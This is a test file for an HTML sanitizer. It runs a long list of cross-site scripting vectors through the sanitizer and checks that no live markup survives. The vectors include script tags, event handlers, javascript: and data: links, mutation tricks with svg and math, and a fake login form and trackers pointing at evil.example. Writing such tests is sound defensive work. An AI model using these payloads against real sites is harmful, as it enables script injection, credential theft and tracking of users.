import fc from "fast-check";
import { parseHTML } from "linkedom";
import { expect, test } from "vitest";
import { sanitizeHtml, sanitizerVersion } from "./sanitize-html";

const allowed: Record<string, string[]> = {
  a: ["href", "rel"],
  td: ["colspan", "rowspan"],
  th: ["colspan", "rowspan"],
};
const harmless = new Set(
  `p div br hr h1 h2 h3 h4 h5 h6 blockquote ul ol li dl dt dd figure figcaption pre code strong b em i u s del ins sub sup
  small q cite abbr a table caption thead tbody tfoot tr th td`.split(/\s+/),
);

/** What is left that should not be, as a browser would read the cleaned markup. */
function complaints(cleaned: string): string[] {
  const { document } = parseHTML(`<!doctype html><html><head></head><body>${cleaned}</body></html>`);
  return [...document.querySelectorAll("body *")].flatMap((element) => [
    ...(harmless.has(element.localName) ? [] : [`<${element.localName}>`]),
    ...[...element.attributes].flatMap(({ name, value }) => {
      if (!allowed[element.localName]?.includes(name)) return [`${element.localName} ${name}`];
      return name === "href" && !/^(?:https?:\/\/|mailto:)/.test(value) ? [value] : [];
    }),
  ]);
}

const events =
  "onload onerror onclick onmouseover onfocus onbegin ontoggle onstart onanimationend onpointerenter onwheel oncopy".split(
    " ",
  );
const elements =
  `img svg body input details video audio math object embed iframe marquee select textarea keygen isindex
  form button a p table div style link base xss`.split(/\s+/);
const schemes = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\nscript:alert(1)",
  "java\tscript:alert(1)",
  "\u0001javascript:alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A&#x61&#x76&#x61script:alert(1)",
  "javascript&colon;alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD4=",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "file:///etc/passwd",
  "blob:https://a.example/1",
  "filesystem:https://a.example/x",
  "//evil.example/x",
  "/desk/admin",
  "?logout=1",
  "#top",
  "https://user:password@evil.example/",
  "view-source:https://a.example",
  "feed:javascript:alert(1)",
  "jar:https://a.example!/x",
  "ws://a.example",
  "mailto:a@b.example?cc=c@d.example",
  'mailto:a@b.example"onclick=alert(1)',
  "tel:113",
  "intent://x#Intent;end",
  "about:blank",
  "\u2028javascript:alert(1)",
];
const byHand = [
  "<script>alert(1)</script>",
  "<script src=//evil.example/x.js></script>",
  "<scr<script>ipt>alert(1)</script>",
  "<script/x>alert(1)</script>",
  "<SCRIPT>alert(1)</SCRIPT>",
  "<script\n>alert(1)</script\n>",
  "<<script>alert(1)//<</script>",
  "<script>alert(1)",
  "</script><script>alert(1)</script>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<textarea></textarea/><img src=x onerror=alert(1)>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  "<option><style></option></select><img src=x onerror=alert(1)></style>",
  "<select><option><script>alert(1)</script></select>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>",
  "<svg><set attributeName=onmouseover to=alert(1)>",
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x">',
  "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<svg><script href=data:,alert(1) /></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  "<math href=javascript:alert(1)>x</math>",
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<iframe src=javascript:alert(1)></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<applet code=x></applet>",
  "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<link rel=import href=//evil.example>",
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "<style>@import '//evil.example';</style>",
  "<style>*{background:url(javascript:alert(1))}</style>",
  '<p style="background:url(//evil.example/track)">x</p>',
  '<div style="position:fixed;inset:0">x</div>',
  "<p style=width:expression(alert(1))>",
  "<form action=//evil.example><input name=password type=password><button>Đăng nhập</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<input autofocus onfocus=alert(1)>",
  "<isindex action=javascript:alert(1)>",
  "<label for=x>x</label>",
  "<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  "<img src=`x`onerror=alert(1)>",
  '<img """><script>alert(1)</script>">',
  '<img srcset="//evil.example/track 1x">',
  "<img src=https://evil.example/track.gif>",
  '<img alt="<script>alert(1)</script>">',
  "<img alt='\"><script>alert(1)</script>'>",
  '<img alt="&lt;img src=x onerror=alert(1)&gt;">',
  "<picture><source srcset=//evil.example/x><img alt=x></picture>",
  "<image href=x onerror=alert(1)>",
  "<a href=https://a.example onclick=alert(1)>x</a>",
  "<a href=https://a.example target=_blank rel=opener>x</a>",
  "<a ping=//evil.example href=https://a.example>x</a>",
  "<a download href=https://a.example>x</a>",
  "<a name=body href=https://a.example>x</a>",
  "<a href='https://a.example/\"onmouseover=alert(1)//'>x</a>",
  '<a href="https://a.example/<script>">x</a>',
  "<a xlink:href=javascript:alert(1)>x</a>",
  "<a href=https://a.example href=javascript:alert(1)>x</a>",
  "<a href=javascript:alert(1) href=https://a.example>x</a>",
  "<p id=__next>x</p>",
  "<p name=cookie>x</p>",
  "<div class=fixed>x</div>",
  "<p data-action=delete>x</p>",
  "<p contenteditable>x</p>",
  "<p tabindex=1 accesskey=x>x</p>",
  "<div is=x-y>x</div>",
  "<x-y>x</x-y>",
  "<slot name=x>x</slot>",
  "<portal src=//evil.example>",
  "<template><script>alert(1)</script></template>",
  "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
  "<div><template shadowrootmode=open><slot></slot></template></div>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "<noembed><img src=x onerror=alert(1)></noembed>",
  "<noframes><img src=x onerror=alert(1)></noframes>",
  "<frameset onload=alert(1)>",
  "<frame src=javascript:alert(1)>",
  "<!--><script>alert(1)</script>-->",
  "<!--!><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml-stylesheet href=javascript:alert(1)?>",
  "<!DOCTYPE html [<!ENTITY x '<script>'>]>&x;",
  "<?php echo 1 ?><script>alert(1)</script>",
  "<%<script>alert(1)</script>%>",
  "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>",
  '<td colspan="1 onclick=alert(1)">x</td>',
  "<table><td><script>alert(1)</script></table>",
  "<table><style><img src=x onerror=alert(1)></style></table>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;script&amp;gt;",
  "\u003cscript\u003ealert(1)\u003c/script\u003e",
  "<\u0000script>alert(1)</script>",
  "<p\u0000 onclick=alert(1)>x",
  "<sc\u0000ript>alert(1)</script>",
  "＜script＞alert(1)＜/script＞",
  "¼script¾alert(1)¼/script¾",
  '<p><a href="https://a.example"><div><a href="javascript:alert(1)">x',
  "<b><p><i></b></p></i><script>alert(1)</script>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<video poster=javascript:alert(1)>",
  "<bgsound src=javascript:alert(1)>",
  "<layer src=javascript:alert(1)>",
  "<dialog open><form method=dialog><button>x",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<body onload=alert(1)>",
  "<html onclick=alert(1)>",
  "<head><script>alert(1)</script></head>",
  "<p popover id=x>x",
  "<button popovertarget=x onclick=alert(1)>x",
];
const vectors = [
  ...byHand,
  ...schemes.map((scheme) => `<a href="${scheme}">x</a>`),
  ...schemes.map((scheme) => `<img src="${scheme}" alt=x>`),
  ...elements.map((name, at) => `<${name} ${events[at % events.length]}=alert(1) src=x>x</${name}>`),
  ...events.map((event) => `<p ${event}="alert(1)" ${event.toUpperCase()}=alert(1)>x</p>`),
];

test("there are enough ways in", () => {
  expect(new Set(vectors).size).toBeGreaterThan(200);
});

for (const [at, vector] of vectors.entries()) {
  test(`nothing live is left (${at + 1}): ${JSON.stringify(vector).slice(0, 90)}`, () => {
    for (const around of [
      vector,
      `<p>a${vector}b</p>`,
      `<table><tr><td>${vector}</td></tr></table>`,
      `<svg>${vector}</svg>${vector}`,
    ]) {
      const cleaned = sanitizeHtml(around);
      expect(complaints(cleaned)).toEqual([]);
      expect(sanitizeHtml(cleaned)).toBe(cleaned);
    }
  });
}

const piece = fc.oneof(
  fc.constantFrom(...vectors),
  fc.constantFrom(
    "<p>",
    "</p>",
    "<div>",
    "</div>",
    "<table>",
    "<tr>",
    "<td>",
    "</table>",
    "<ul><li>",
    "</ul>",
    "<a href=https://a.example/ü>",
    "</a>",
    "<svg>",
    "</svg>",
    "<!--",
    "-->",
    "<b",
    ">",
    '"',
    "'",
    "&",
    "&lt",
    "<style>",
    "</style>",
    "<img alt=",
    "<section>",
  ),
  fc.string(),
);

test("any soup of markup comes out harmless, and cleaning it again changes nothing", () => {
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const cleaned = sanitizeHtml(pieces.join(""));
      expect(complaints(cleaned)).toEqual([]);
      expect(sanitizeHtml(cleaned)).toBe(cleaned);
    }),
    { numRuns: 400 },
  );
});

test("the words of an ordinary article stay, to the letter", () => {
  const words = (html: string) =>
    parseHTML(`<!doctype html><html><head></head><body>${html}</body></html>`).document.querySelector("body")
      ?.textContent;
  const article = `<article class="x"><header><h1>Đò ngang "chạy lại" &amp; kè mới</h1></header><section><p style="color:red">Giá vé 5&nbsp;000 &lt; 6 000 đồng,
    <span id="q">theo <em>ban quản lý</em></span>.</p><ul><li>Một</li><li><a href="/x">Hai</a></li></ul><table><tr><td colspan="2" class="y">Ba</td></tr></table>
    <blockquote>“Chờ mãi”, bà Tư nói.</blockquote><font color=blue>Hết.</font></section></article>`;
  expect(words(sanitizeHtml(article))).toBe(words(article));
});

test("a link to the web keeps its address and says that we do not vouch for it", () => {
  expect(sanitizeHtml('<a href="https://a.example/x?y=1" class=z>x</a>')).toBe(
    '<a href="https://a.example/x?y=1" rel="nofollow ugc noopener noreferrer">x</a>',
  );
});

test("a picture leaves its words and its caption, not its address", () => {
  expect(
    sanitizeHtml(
      '<figure><img src="https://a.example/1.jpg" alt="Bến đò"><figcaption>Sáng 3/5</figcaption></figure><img src=x>',
    ),
  ).toBe("<figure><small>Bến đò</small><figcaption>Sáng 3/5</figcaption></figure>");
});

test("the version names the package and our rules", () => {
  expect(sanitizerVersion).toMatch(/^sanitize-html \d+\.\d+\.\d+, rules \d+$/);
});
